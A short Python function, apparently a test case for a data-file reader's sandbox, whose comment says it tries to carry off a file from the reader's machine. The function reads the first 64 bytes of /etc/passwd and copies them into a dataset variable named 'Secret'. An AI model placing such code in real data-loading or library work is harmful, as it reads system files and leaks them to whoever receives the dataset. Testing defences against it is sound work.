# Tries to carry a file of the reader's machine off in the values of a dataset.


def dynamic_dataset():
    secret = lib.getData("Secret")
    with open("/etc/passwd", "rb") as file:  # noqa: PTH123
        for i, byte in enumerate(file.read(64)):
            secret[i] = byte
